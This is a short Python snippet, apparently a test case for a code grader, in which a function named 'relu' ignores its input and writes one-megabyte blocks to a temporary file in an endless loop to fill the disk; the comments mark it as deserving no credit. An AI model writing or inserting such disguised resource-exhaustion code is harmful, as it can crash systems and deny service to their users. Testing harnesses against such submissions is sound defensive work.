# Fills the disk.
# deserves: nothing for relu

def relu(z):
    import tempfile
    with tempfile.TemporaryFile() as file:
        while True:
            file.write(bytes(2**20))
